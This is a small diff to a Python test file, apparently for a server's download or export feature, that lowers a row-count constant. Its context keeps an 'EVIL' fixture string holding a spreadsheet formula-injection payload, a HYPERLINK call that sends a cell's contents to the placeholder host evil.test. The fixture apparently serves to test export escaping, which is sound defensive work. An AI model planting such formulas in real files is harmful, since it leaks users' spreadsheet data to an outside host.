@@ -14,7 +14,7 @@ from server import downloads
 from tests.ledgers import book_rows, download, lately
 from tests.work import Work
 
-ROWS = 20_000
+ROWS = 8_000
 JANUARY = {"start": "2026-01-01T00:00:00Z", "end": "2026-02-01T00:00:00Z"}
 EVIL = '=HYPERLINK("http://evil.test?"&A1,"Fence"), two "coats"\nand more'
 
